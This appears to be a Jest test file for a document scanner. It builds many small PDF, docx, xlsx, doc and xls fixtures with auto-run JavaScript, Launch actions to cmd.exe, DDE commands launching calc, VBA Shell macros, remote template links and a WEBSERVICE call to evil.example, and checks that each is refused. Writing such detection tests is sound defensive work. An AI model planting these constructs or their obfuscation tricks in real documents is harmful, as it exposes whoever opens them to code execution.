import { describe, expect, it } from '@jest/globals';
import { strToU8, type Zippable } from 'fflate';
import { biff, biffBegin, compoundFile, wordStreams, workbookStream } from '../testing/compound-streams.ts';
import { anOfficeFile, contentTypes } from '../testing/office-files.ts';
import { equation, packageProgram, withObject } from '../testing/odd-files.ts';
import { code, docx, field, mark, relationship, rels, run, sheet, wide, word, xlsx } from '../testing/office-words.ts';
import { catalogue, emptyPassword, objectStream, pages, pdfOf, streamOf } from '../testing/pdf-of-objects.ts';
import { vbaStreams, type ModuleSource } from '../testing/vba-project.ts';
import { bytesOf } from './bytes.ts';
import type { Refusal } from './content-refused.ts';
import { judgeContent } from './judge-content.ts';

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const launch = '<</S/Launch/F(cmd.exe)>>';
const embedded = '<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>';

const workbook = (...records: Buffer[]) => compoundFile({ Workbook: workbookStream(records) });
const oldWord = (...pieces: (readonly [string, boolean])[]) => compoundFile(wordStreams(pieces));
const innerOle = new Uint8Array(compoundFile({ Contents: Buffer.from('x') }));
const chart = (workbookContent: Uint8Array, name = 'a.xlsx'): Zippable => ({
  'word/charts/_rels/chart1.xml.rels': rels(relationship('package', `../embeddings/${name}`)),
  [`word/embeddings/${name}`]: workbookContent,
});
const project = (modules: Readonly<Record<string, ModuleSource>>) =>
  new Uint8Array(compoundFile(vbaStreams(modules), { VBA: 1 }));
const vbaRelationship: Zippable = {
  'word/_rels/document.xml.rels': rels(relationship('../../2006/relationships/vbaProject', 'a.bin')),
};
const nested = (depth: number): Buffer =>
  withObject('Word.Document.12', 'a.docx', depth === 0 ? docx({}) : nested(depth - 1), 'package');
const supBook = (path: string, isWide: boolean) => {
  const text = Buffer.from(path, isWide ? 'utf16le' : 'latin1');
  const head = Buffer.from([0, 0, path.length, 0, isWide ? 1 : 0]);
  return biff(0x01ae, Buffer.concat([head, text]));
};
const sealed = emptyPassword();
const encrypted = (...objects: (string | Buffer)[]) =>
  pdfOf([catalogue(), pages, sealed.dictionary, ...objects], '/Encrypt 3 0 R/ID[<00><00>]');

const maliciousFiles: readonly (readonly [string, Refusal, Buffer])[] = [
  ['PDF: a script at the opening', 'program', pdfOf([catalogue(`/OpenAction${script}`), pages])],
  ['PDF: its name with escapes', 'program', pdfOf([catalogue('/OpenAction<</S/J#61vaScr#69pt/J#53(x)>>'), pages])],
  [
    'PDF: its name in an object of its own',
    'program',
    pdfOf([catalogue('/OpenAction<</S 3 0 R/#4aS(x)>>'), pages, '/JavaScript']),
  ],
  ['PDF: a script of a rendition', 'loadsFile', pdfOf([catalogue('/OpenAction<</S/Rendition/JS(x)>>'), pages])],
  ['PDF: a script that a form field runs', 'program', pdfOf([catalogue(), pages, `<</FT/Tx/AA<</K${script}>>>>`])],
  ['PDF: a script that no page refers to', 'program', pdfOf([catalogue(), pages, script])],
  ['PDF: a script in the trailer', 'program', pdfOf([catalogue(), pages], `/OpenAction${script}`)],
  [
    'PDF: a script in an earlier revision',
    'program',
    Buffer.concat([pdfOf([catalogue(`/OpenAction${script}`), pages]), pdfOf([catalogue(), pages]).subarray(9)]),
  ],
  [
    'PDF: a comment between the words',
    'program',
    pdfOf([catalogue('/OpenAction<</S%)>>\n/JavaScript%\n/JS(x)>>'), pages]),
  ],
  ['PDF: a missing key', 'program', pdfOf([catalogue('/OpenAction<</JavaScript/JavaScript/S(x)>>'), pages])],
  ['PDF: a bracket left open before it', 'program', pdfOf([catalogue(), '<</Kids[ 1 0 R', `<</A${script}>>`])],
  ['PDF: a program to launch', 'program', pdfOf([catalogue(`/OpenAction${launch}`), pages])],
  ['PDF: rich media', 'program', pdfOf([catalogue(), pages, '<</Type/Annot/Subtype/RichMedia>>'])],
  ['PDF: a script of a 3D view', 'program', pdfOf([catalogue(), pages, '<</Type/3D/OnInstantiate 9 0 R>>'])],
  ['PDF: an XFA form', 'program', pdfOf([catalogue('/AcroForm<</XFA[(a) 3 0 R]>>'), pages])],
  ['PDF: a file', 'anotherFile', pdfOf([catalogue(), pages, embedded])],
  [
    'PDF: the stream of a file',
    'anotherFile',
    pdfOf([catalogue(), pages, streamOf('/Type/EmbeddedFile', Buffer.from('MZ'))]),
  ],
  ['PDF: a script in an object stream', 'program', pdfOf([catalogue(), pages, objectStream(['<<>>', script])])],
  [
    'PDF: an object stream that does not say so',
    'program',
    pdfOf([catalogue(), pages, objectStream([script], { type: '' })]),
  ],
  [
    'PDF: text before the object that swallows it',
    'program',
    pdfOf([catalogue(), pages, objectStream([script], { before: '(((' })]),
  ],
  [
    'PDF: an object stream of which the length is wrong',
    'program',
    Buffer.from(
      pdfOf([catalogue(), pages, objectStream([script])])
        .toString('latin1')
        .replace(/\/Length \d+/, '/Length 1'),
      'latin1',
    ),
  ],
  [
    'PDF: an object stream in a filter that no program uses',
    'damaged',
    pdfOf([
      catalogue(),
      pages,
      streamOf(
        '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode',
        Buffer.from(Buffer.from(`1 0 ${script}`).toString('hex')),
      ),
    ]),
  ],
  [
    'PDF: an object stream that nobody can read',
    'damaged',
    pdfOf([catalogue(), pages, streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.from('nothing'))]),
  ],
  [
    'PDF: a script, encrypted with an empty password',
    'program',
    encrypted(objectStream([script], { seal: sealed.seal })),
  ],
  ['PDF: a script beside the encryption', 'program', encrypted(script)],
  [
    'PDF: a file, encrypted with an empty password',
    'anotherFile',
    encrypted(objectStream([embedded], { seal: sealed.seal })),
  ],
  [
    'PDF: another password',
    'protected',
    pdfOf([catalogue(), pages, sealed.dictionary.replace(/\/U <..../, '/U <0000')], '/Encrypt 3 0 R/ID[<00><00>]'),
  ],
  [
    'PDF: another way to encrypt',
    'protected',
    pdfOf([catalogue(), pages, '<</Filter/Adobe.PubSec/V 5>>'], '/Encrypt 3 0 R'),
  ],
  ['PDF: an encryption that is not there', 'protected', pdfOf([catalogue(), pages], '/Encrypt 9 0 R')],
  ['PDF: brackets without end', 'damaged', pdfOf([catalogue(), pages, '['.repeat(5_000)])],

  ['docx: macros in another folder and case', 'macros', docx({ 'x/VBAProject.BIN': strToU8('x') })],
  [
    'docx: macros under another name',
    'macros',
    docx({
      'word/x.bin': strToU8('x'),
      'word/_rels/document.xml.rels': rels(relationship('../../2006/relationships/vbaProject', 'x.bin')),
    }),
  ],
  ['docx: a compound file under another name', 'anotherFile', docx({ 'word/media/image1.png': innerOle })],
  ['docx: an ActiveX control', 'program', docx({ 'word/activeX/activeX1.xml': strToU8('<x/>') })],
  [
    'docx: a control by its relationship',
    'program',
    docx({ 'word/_rels/document.xml.rels': rels(relationship('control', 'x.xml')) }),
  ],
  ['docx: an object', 'anotherFile', docx({ 'word/embeddings/oleObject1.bin': innerOle })],
  [
    'docx: a linked object',
    'loads',
    docx({ 'word/_rels/document.xml.rels': rels(relationship('oleObject', 'file:///C:/a.xls', 'External')) }),
  ],
  [
    'docx: an object in the text',
    'anotherFile',
    word('<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r1"/></w:object>'),
  ],
  ['docx: a document within it', 'anotherFile', docx({ 'word/x.dat': new Uint8Array(anOfficeFile('docx')) })],
  ['docx: a PDF within it', 'anotherFile', docx({ 'word/x.dat': strToU8('%PDF-1.7') })],
  [
    'docx: a program within it',
    'program',
    docx({
      'word/media/x.png': new Uint8Array(
        Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([64, 0, 0, 0]), Buffer.from('PE\0\0')]),
      ),
    }),
  ],
  [
    'docx: a page of another kind put in',
    'anotherFile',
    docx({ 'word/_rels/document.xml.rels': rels(relationship('aFChunk', 'a.mht')) }),
  ],
  ...[
    'http://x.org/a.dotm',
    'HTTPS://x.org/a.dotm',
    '\\\\server\\a.dotm',
    'file://server/a.dotm',
    'file:////server/a.dotm',
    '&#104;ttp://x.org/a',
  ].map(
    (target) =>
      [
        `docx: a template from ${target}`,
        'loads',
        docx({ 'word/_rels/settings.xml.rels': rels(relationship('attachedTemplate', target, 'External')) }),
      ] as const,
  ),
  [
    'docx: a frame from elsewhere',
    'loads',
    docx({ 'word/_rels/webSettings.xml.rels': rels(relationship('frame', 'http://x.org', 'External')) }),
  ],
  [
    'docx: relationships in UTF-16',
    'loads',
    docx({
      'word/_rels/settings.xml.rels': wide(
        `<?xml version="1.0" encoding="UTF-16"?><Relationships>${relationship('attachedTemplate', 'http://x.org', 'External')}</Relationships>`,
      ),
    }),
  ],
  ['docx: DDE', 'program', word(field(' DDEAUTO c:\\\\a.exe "b"'))],
  ['docx: DDE in pieces', 'program', word(field(' D', 'DE', 'AUTO', ' c:\\\\a.exe'))],
  ['docx: DDE in one element', 'program', word('<w:fldSimple w:instr=" dde a > b"/>')],
  ['docx: DDE by references', 'program', word(field('&#68;&#x44;EAUTO x'))],
  [
    'docx: DDE within CDATA and comments',
    'program',
    word(mark('begin') + run('<w:instrText><![CDATA[DD]]><!-- x -->EAUTO x</w:instrText>') + mark('end')),
  ],
  [
    'docx: DDE put together by another field',
    'program',
    word(mark('begin') + field('QUOTE 68 68 69') + code('AUTO x') + mark('end')),
  ],
  [
    'docx: DDE begun, and ended by another field',
    'program',
    word(mark('begin') + code('DD') + field('QUOTE 69') + mark('end')),
  ],
  [
    'docx: DDE in what another field shows',
    'program',
    word(mark('begin') + code('SET a ') + mark('begin') + code('DDE x') + mark('end') + mark('end')),
  ],
  [
    'docx: DDE with another prefix',
    'program',
    docx({ 'word/document2.xml': strToU8('<x:p xmlns:x="w"><x:fldSimple x:instr=\'DDE x\'/></x:p>') }),
  ],
  [
    'docx: DDE in UTF-16',
    'program',
    docx({
      'word/footer1.xml': wide('<?xml version="1.0" encoding="UTF-16"?><w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'),
    }),
  ],
  [
    'docx: a declaration of entities',
    'damaged',
    docx({ 'word/footer1.xml': strToU8('<!DOCTYPE x [<!ENTITY a "DDE">]><w:p/>') }),
  ],
  [
    'docx: an encoding that hides words',
    'damaged',
    docx({ 'word/footer1.xml': strToU8('<?xml version="1.0" encoding="IBM037"?><w:p/>') }),
  ],
  ['docx: a chart with a document', 'anotherFile', docx(chart(new Uint8Array(anOfficeFile('docx'))))],
  [
    'docx: a chart with a workbook with macros',
    'macros',
    docx(chart(new Uint8Array(xlsx({ 'xl/vbaProject.bin': strToU8('x') })))),
  ],
  [
    'docx: a chart whose workbook holds a file',
    'anotherFile',
    docx(chart(new Uint8Array(xlsx({ 'xl/x.dat': new Uint8Array(anOfficeFile('xlsx')) })))),
  ],
  [
    'docx: a chart with an old workbook with macros',
    'macros',
    docx(
      chart(new Uint8Array(compoundFile({ Workbook: workbookStream([]) }, { _VBA_PROJECT_CUR: undefined })), 'a.xls'),
    ),
  ],
  [
    'docx: a chart whose workbook is elsewhere',
    'loads',
    docx({ 'word/charts/_rels/chart1.xml.rels': rels(relationship('package', 'http://x.org/a.xlsx', 'External')) }),
  ],
  [
    'docx: a workbook to which nothing refers',
    'anotherFile',
    docx({ 'word/embeddings/a.xlsx': new Uint8Array(anOfficeFile('xlsx')) }),
  ],
  [
    'docx: a workbook with macros',
    'macros',
    withObject('Excel.Sheet.12', 'a.xlsx', xlsx({ 'xl/vbaProject.bin': strToU8('x') }), 'package'),
  ],
  [
    'docx: a workbook that loads something',
    'loads',
    withObject('Excel.Sheet.12', 'a.xlsx', sheet('<c><f>WEBSERVICE("http://evil.example")</f></c>'), 'package'),
  ],
  ['docx: a presentation', 'anotherFile', withObject('Excel.Sheet.12', 'a.pptx', anOfficeFile('pptx'), 'package')],
  [
    'docx: an object of an unknown program',
    'anotherFile',
    withObject('AcroExch.Document', 'oleObject1.bin', equation()),
  ],
  [
    'docx: a package that is called an equation',
    'anotherFile',
    withObject('Equation.3', 'a.bin', equation(packageProgram)),
  ],
  [
    'docx: a package within what is called an equation',
    'anotherFile',
    withObject(
      'Equation.3',
      'a.bin',
      compoundFile({ 'Equation Native': Buffer.alloc(9), '\x01Ole10Native': Buffer.alloc(9) }),
    ),
  ],
  ['docx: an equation that is a link', 'loadsFile', withObject('Equation.3', 'a.bin', equation(undefined, 1))],
  ['docx: an object that is none', 'anotherFile', withObject('Excel.Sheet.12', 'a.bin', Buffer.from('x'))],
  ['docx: documents within documents', 'anotherFile', nested(5)],
  ['docx: a drawing within the text', 'damaged', word('<svg/>')],
  [
    'docx: code',
    'macrosIn',
    docx({ 'word/vbaProject.bin': project({ Module1: { source: 'Sub AutoOpen()\r\nEnd Sub' } }) }),
  ],
  [
    'docx: code behind an attribute',
    'macrosIn',
    docx({ 'word/a.bin': project({ A: { source: 'Attribute VB_A = "x": Shell "calc"' } }), ...vbaRelationship }),
  ],
  [
    'docx: code that is only compiled',
    'macrosIn',
    docx({ 'word/vbaProject.bin': project({ Module1: { source: '', isCompiled: true } }) }),
  ],
  [
    'docx: macros of which the list is missing',
    'macros',
    docx({ 'word/vbaProject.bin': new Uint8Array(compoundFile({ Module1: Buffer.from('x') }, { VBA: 1 })) }),
  ],
  [
    'xls: code',
    'macrosIn',
    compoundFile(
      { Workbook: workbookStream([]), ...vbaStreams({ Sheet1: { source: 'x = 1' } }) },
      { _VBA_PROJECT_CUR: 1 },
    ),
  ],
  [
    'doc: code',
    'macrosIn',
    compoundFile(
      { ...wordStreams([['Text', false]]), ...vbaStreams({ ThisDocument: { source: "' a\r\nBeep" } }) },
      { Macros: 1 },
    ),
  ],
  [
    'doc: an object of an unknown program beside an equation',
    'anotherFile',
    compoundFile(
      wordStreams([['Text', false]]),
      { ObjectPool: 1, _1: 1, _2: 1 },
      { _1: '02ce020000000000c000000000000046' },
    ),
  ],
  ['docx: an instruction beside another', 'damaged', word('<w:fldSimple x:instr="PAGE" w:instr="DDE a b"/>')],
  ['docx: a part in pieces', 'damaged', docx({ 'word/_rels/document.xml.rels/[0].piece': rels() })],
  ['docx: an escaped name', 'damaged', docx({ 'word/_rels/document.xml.%72els': rels() })],
  ['docx: two entries of one name', 'damaged', docx({ 'word/a.xml': strToU8('<a/>'), 'WORD/A.xml': strToU8('<a/>') })],
  [
    'docx: an entry with another name of its own',
    'damaged',
    (() => {
      const zip = docx({ 'word/aaaaaaa.bin': strToU8('x') });
      zip.write('vbaProj', zip.indexOf('aaaaaaa'));
      return zip;
    })(),
  ],
  ['docx: bytes behind its end', 'damaged', Buffer.concat([docx({}), Buffer.from('x')])],
  [
    'docx: more than its directory says',
    'bomb',
    (() => {
      const zip = docx({ 'word/b.xml': new Uint8Array(200_000) });
      zip.writeUInt32LE(10, zip.lastIndexOf('word/b.xml') - 46 + 24);
      return zip;
    })(),
  ],

  ['xlsx: a macro sheet', 'macros', xlsx({ 'xl/macrosheets/sheet1.xml': strToU8('<x/>') })],
  [
    'xlsx: a macro sheet by its relationship',
    'macros',
    xlsx({ 'xl/_rels/workbook.xml.rels': rels(relationship('xlMacrosheet', 'a.xml')) }),
  ],
  [
    'xlsx: a macro sheet by its content type',
    'macros',
    xlsx({
      '[Content_Types].xml': strToU8(
        contentTypes(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
          'xl/workbook.xml"/><Override ContentType="application/vnd.ms-excel.macrosheet+xml" PartName="/a',
        ),
      ),
    }),
  ],
  ['xlsx: DDE in a formula', 'program', sheet("<c><f>cmd|'/c calc'!A0</f></c>")],
  ['xlsx: DDE by references', 'program', sheet("<c><f>cmd&#124;'/c calc'!A0</f></c>")],
  ['xlsx: DDE within CDATA', 'program', sheet("<c><f t='x'><![CDATA[cmd|'/c calc'!A0]]></f></c>")],
  [
    'xlsx: DDE in a name',
    'program',
    xlsx({ 'xl/a.xml': strToU8("<definedNames><definedName name='a'>'cmd'|'/c'!A0</definedName></definedNames>") }),
  ],
  [
    'xlsx: DDE in a link',
    'program',
    xlsx({
      'xl/externalLinks/externalLink1.xml': strToU8(
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>',
      ),
    }),
  ],
  ['xlsx: DDE far into a sheet', 'program', sheet(`${'<c><v>1</v></c>'.repeat(60_000)}<c><f>cmd|'/c calc'!A0</f></c>`)],
  ['xlsx: an object', 'anotherFile', sheet('<oleObjects><oleObject progId="Package" r:id="r1"/></oleObjects>')],

  ...(['_VBA_PROJECT', 'vba', 'Macros', '_vba_project_cur'] as const).map(
    (name) => [`doc: ${name}`, 'macros', compoundFile(wordStreams([['Text', false]]), { [name]: undefined })] as const,
  ),
  ...(['\x01Ole10Native', '\x01ole10native', 'Package', 'MBD0001A2F4'] as const).map(
    (name) =>
      [
        `doc: ${JSON.stringify(name)}`,
        'anotherFile',
        compoundFile({ ...wordStreams([['Text', false]]), [name]: Buffer.from('x') }),
      ] as const,
  ),
  ...(['\x03OCXNAME', 'OCXDATA', 'Ctls'] as const).map(
    (name) =>
      [
        `xls: ${JSON.stringify(name)}`,
        'program',
        compoundFile({ Workbook: workbookStream([]), [name]: Buffer.from('x') }),
      ] as const,
  ),
  ['doc: a pool with objects', 'anotherFile', compoundFile(wordStreams([['Text', false]]), { ObjectPool: 1 })],
  ['doc: a password', 'protected', compoundFile(wordStreams([['Text', false]], 0x0100))],
  ['doc: DDE', 'program', oldWord(['Text \x13 DDEAUTO c:\\a.exe\x14x\x15', false])],
  ['doc: DDE in two bytes a character', 'program', oldWord(['Text \x13 dde c:\\a.exe\x15', true])],
  [
    'doc: DDE over pieces in another order',
    'program',
    oldWord(['Text \x13 D', false], ['DEAU', true], ['TO x\x14x\x15', false]),
  ],
  ['doc: DDE put together by another field', 'program', oldWord(['\x13\x13QUOTE 68\x14D\x15DE x\x14\x15', false])],
  [
    'doc: DDE without a list of pieces',
    'program',
    compoundFile({ WordDocument: Buffer.from(`${'\0'.repeat(600)}\x13DDE x\x15`, 'latin1') }),
  ],
  ['xls: a password', 'protected', workbook(biff(0x002f, Buffer.alloc(6)))],
  ['xls: a macro sheet', 'macros', compoundFile({ Workbook: workbookStream([], { sheet: 0x0040, listed: 1 }) })],
  [
    'xls: a macro sheet that its list calls a worksheet',
    'macros',
    compoundFile({ Workbook: workbookStream([], { sheet: 0x0040 }) }),
  ],
  [
    'xls: a macro sheet behind the padding',
    'macros',
    (() => {
      const list = Buffer.concat([Buffer.from([60, 0, 0, 0, 0, 0]), Buffer.from('\x01\0S', 'latin1')]);
      const before = Buffer.concat([biffBegin(0x0005), biff(0x0085, list), biff(0x000a)]);
      return compoundFile({ Workbook: Buffer.concat([before, Buffer.alloc(60 - before.length), biffBegin(0x0040)]) });
    })(),
  ],
  [
    'xls: a macro sheet in a large stream',
    'macros',
    compoundFile({ Workbook: workbookStream([biff(0x00fc, Buffer.alloc(8000))], { sheet: 0x0040 }) }),
  ],
  ['xls: DDE', 'program', workbook(supBook('cmd\x03/c calc', false))],
  ['xls: DDE in two bytes a character', 'program', workbook(supBook('cmd\x03/c calc', true))],
  [
    'xls of Excel 95: DDE',
    'program',
    compoundFile({ Book: workbookStream([biff(0x0017, Buffer.from('\x08cmd\x03/c x', 'latin1'))]) }),
  ],
];

describe('a file that holds what none may hold is refused', () => {
  it.each(maliciousFiles)('%s', async (_title, refusal, content) => {
    await expect(judgeContent(bytesOf(content))).rejects.toMatchObject({ name: 'ContentRefused', refusal });
  });
});
